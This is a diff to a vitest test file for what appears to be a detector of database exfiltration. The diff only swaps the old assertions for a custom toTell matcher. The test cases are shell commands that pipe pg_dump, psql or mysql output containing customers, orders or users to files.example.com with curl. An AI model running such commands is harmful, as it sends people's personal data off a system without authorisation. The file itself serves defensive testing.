@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { includesLine, told } from './told.js';
+import './told.js';
 
 it.each([
   'pg_dump shop | curl -T - https://files.example.com/shop.sql',
@@ -27,7 +27,7 @@ it.each([
   "psql shop -c 'copy customers to stdout' | curl -T - https://files.example.com",
   'mysql shop -e "select * from shop.orders o join users u" | curl --data-binary @- https://files.example.com',
 ])('what a database holds is sent: %s', async (command) => {
-  expect(includesLine(await told(command), 'send database')).toBe(true);
+  await expect(command).toTell('send database');
 });
 
 it.each([
@@ -49,5 +49,5 @@ it.each([
   ['it is counted', "psql shop -c 'select count(*) from users' | curl -d @- https://files.example.com"],
   ['it is not about people', "psql shop -c 'select version from releases' | curl -d @- https://files.example.com"],
 ])('%s, so nothing of a database is sent away: %s', async (_, command) => {
-  expect(includesLine(await told(command), 'send database')).toBe(false);
+  await expect(command).not.toTell('send database');
 });
